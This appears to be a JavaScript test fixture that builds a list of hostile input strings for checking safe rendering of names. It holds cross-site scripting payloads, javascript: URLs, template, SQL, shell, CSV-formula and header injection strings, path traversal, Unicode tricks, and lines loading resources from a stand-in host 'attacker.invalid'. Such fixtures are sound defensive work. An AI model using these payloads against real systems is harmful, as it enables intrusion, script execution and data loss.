// Text as an attacker would put it into names. Each would set `window.pwned`, open a dialog or ask another host if it were
// ever more than text.

const DO = 'window.pwned=1';

const MARKUP = [
  `<script>${DO}</script>`, `"><script>${DO}</script>`, `'><script>${DO}</script>`, `</script><script>${DO}</script>`, `</title><script>${DO}</script>`,
  `</textarea><script>${DO}</script>`, `<img src=x onerror=${DO}>`, `<img src=x onerror="${DO}">`, `"><img src=x onerror=${DO}>`, `<svg onload=${DO}>`,
  `<svg><script>${DO}</script></svg>`, `<svg><animate onbegin=${DO} attributeName=x dur=1s>`, `<body onload=${DO}>`, `<input autofocus onfocus=${DO}>`,
  `<details open ontoggle=${DO}>`, `<video><source onerror=${DO}>`, `<audio src=x onerror=${DO}>`, `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<iframe src="javascript:parent.pwned=1">`, `<object data="javascript:${DO}">`, `<embed src="javascript:${DO}">`, `<a href="javascript:${DO}" autofocus>x</a>`,
  `<form action="javascript:${DO}"><button>x</button></form>`, `<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${DO} src>">`,
  `<template><script>${DO}</script></template>`, `<base href="https://attacker.invalid/">`, `<meta http-equiv=refresh content="0;url=https://attacker.invalid/">`,
  `<link rel=stylesheet href=https://attacker.invalid/x.css>`, `<style>@import "https://attacker.invalid/x.css"</style>`, `<style>*{background:url(https://attacker.invalid/x)}</style>`,
  `<marquee onstart=${DO}>`, `<select autofocus onfocus=${DO}>`, `<keygen autofocus onfocus=${DO}>`, `<isindex action=javascript:${DO} type=image>`, `<xss style="animation-name:x" onanimationstart="${DO}">`,
  `<noscript><p title="</noscript><img src=x onerror=${DO}>">`, `<!--><img src=x onerror=${DO}>-->`, `<![CDATA[<script>${DO}</script>]]>`, `<?xml version="1.0"?><script>${DO}</script>`, `<script src=//attacker.invalid/x.js></script>`,
];
const PLAIN = [
  `javascript:${DO}`, `JaVaScRiPt:${DO}`, `java\tscript:${DO}`, `data:text/html,<script>${DO}</script>`, `vbscript:${DO}`, `//attacker.invalid/`, `https://attacker.invalid/`, `\\\\attacker.invalid\\share`,
  `');${DO};//`, `";${DO};//`, '`${' + DO + '}`', '${' + DO + '}', `{{constructor.constructor('${DO}')()}}`, `#{${DO}}`, `<%= ${DO} %>`, `{%${DO}%}`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`,
  `#/alerts/x`, `../../api/v1/alerts`, `..%2f..%2fetc%2fpasswd`, `%3Cscript%3E${DO}%3C/script%3E`, `&lt;script&gt;${DO}&lt;/script&gt;`, `&#60;script&#62;${DO}`, `\\u003cscript\\u003e${DO}`, `\\x3cscript\\x3e${DO}`, `+ADw-script+AD4-${DO}`, `=HYPERLINK("https://attacker.invalid")`,
  `=cmd|' /C calc'!A0`, `' OR 1=1 --`, `"; DROP TABLE alerts; --`, `$(touch pwned)`, `;touch pwned;`, `|touch pwned`, `\u202egnp.exe`, `\u2066admin\u2069`, `a\u0000b`, `a\r\nSet-Cookie: pwned=1`,
  `\u001b[31mred\u001b[0m`, `\ufeffbom`, `\u200bzero\u200dwidth`, `Z\u0351\u0360\u0362a\u0341lgo`, `x`.repeat(240), `é`.repeat(100), `\ud83d\udc7e`.repeat(40), `<`.repeat(200), `"`.repeat(200), `${'a.'.repeat(100)}b`,
];

const HOLDERS = [(text) => `${text}.example`, (text) => `a ${text} b`];

export const HOSTILE = [...MARKUP, ...PLAIN].flatMap((text) => [text, ...HOLDERS.slice(0, 2).map((hold) => hold(text))]).slice(0, 240);
